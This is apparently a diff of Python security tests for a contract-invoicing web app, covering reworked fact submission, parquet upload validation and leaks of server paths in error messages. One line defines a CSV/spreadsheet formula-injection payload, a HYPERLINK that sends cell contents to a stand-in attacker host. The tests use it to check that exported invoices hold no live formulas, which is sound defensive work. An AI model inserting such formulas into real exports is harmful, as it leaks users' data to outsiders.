@@ -11,7 +11,7 @@ import threading
 import zipfile
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
-from datetime import timedelta
+from datetime import datetime, timedelta
 from pathlib import Path
 
 import httpx
@@ -22,8 +22,9 @@ from tests.io.test_contract_yaml_limits import alias_bomb
 from tests.web.conftest import World, build_world, csrf_of, login
 
 from charte.demo.run import DemoResult, default_contract_path
+from charte.domain.calendar import PARIS
 from charte.io.contract_yaml import MAX_CONTRACT_BYTES
-from charte.web.demo_tenants import FACT_FILES
+from charte.web.demo_tenants import CLIENT_FILES, PROVIDER_FILES
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
 
@@ -35,9 +36,18 @@ def test_the_invoice_xlsx_of_a_contract_with_a_formula_for_a_name_has_no_live_fo
     world = build_world(tmp_path, contract_text=text)
     provider = login(TestClient(world.app), world.logins["provider"])
     token = csrf_of(provider.get(f"/contracts/{world.contract_a}").text)
-    files = [("files", (name, (demo.out_dir / name).read_bytes(), "application/octet-stream")) for name in FACT_FILES]
-    assert provider.post(f"/contracts/{world.contract_a}/facts", data={"csrf_token": token}, files=files).status_code \
-        == 200
+    # each party submits its own facts to the register (issue 14); the client's forecasts on 31 August, on time
+    client = login(TestClient(world.app), world.logins["client"])
+    for who, names in ((provider, PROVIDER_FILES), (client, CLIENT_FILES)):
+        files = [("files", (name, (demo.out_dir / name).read_bytes(), "application/octet-stream")) for name in names]
+        world.app.state.register_clock = lambda: datetime(2026, 8, 31, 9, tzinfo=PARIS)
+        try:
+            sent = who.post(f"/contracts/{world.contract_a}/facts", files=files,
+                            data={"csrf_token": csrf_of(who.get(f"/contracts/{world.contract_a}").text),
+                                  "period": "2026-10"})
+        finally:
+            world.app.state.register_clock = None
+        assert sent.status_code == 200, sent.text[:500]
     location = f"/contracts/{world.contract_a}/settlements/2026-10"
     assert provider.post(f"/contracts/{world.contract_a}/settle", data={"csrf_token": token, "period": "2026-10"},
                          follow_redirects=False).status_code == 303
@@ -131,17 +141,18 @@ def test_a_zip_renamed_parquet_is_refused_and_errors_show_no_server_path(world: 
     archive = io.BytesIO()
     with zipfile.ZipFile(archive, "w") as z:
         z.writestr("interval_report.csv", "a,b\n1,2\n")
-    refused = api.post(f"/api/contracts/{fresh.contract_a}/facts", headers=headers,
+    refused = api.post(f"/api/contracts/{fresh.contract_a}/facts", headers=headers, data={"period": "2026-10"},
                        files=[("files", ("interval_report.parquet", archive.getvalue()))])
     assert refused.status_code == 422
-    assert refused.json()["detail"][0]["code"] == "file_content_mismatch"
+    assert refused.json()["detail"][0]["code"] == "not_parquet"  # the register reads the bytes (issue 14)
     assert "ZIP" in refused.json()["detail"][0]["message"]
-    assert not (fresh.data_dir / "facts" / fresh.contract_a / "interval_report.parquet").exists()
-    # a file whose bytes pass the sniffing but that Arrow cannot read: the problem names the file only
+    assert api.get(f"/api/contracts/{fresh.contract_a}/register", headers=headers).json() == []
+    # a file whose bytes pass the sniffing but that Arrow cannot read: refused, the problem names the file only
     broken = b"PAR1" + b"\0" * 64 + b"PAR1"
-    stored = api.post(f"/api/contracts/{fresh.contract_a}/facts", headers=headers,
+    stored = api.post(f"/api/contracts/{fresh.contract_a}/facts", headers=headers, data={"period": "2026-10"},
                       files=[("files", ("interval_report.parquet", broken))])
-    assert stored.status_code == 200
+    assert stored.status_code == 422 and "interval_report.parquet" in stored.text
+    assert str(fresh.data_dir) not in stored.text and str(tmp_path) not in stored.text
     provider = login(TestClient(fresh.app), fresh.logins["provider"])
     page = provider.post(f"/contracts/{fresh.contract_a}/settle",
                          data={"csrf_token": csrf_of(provider.get("/contracts").text), "period": "2026-10"})
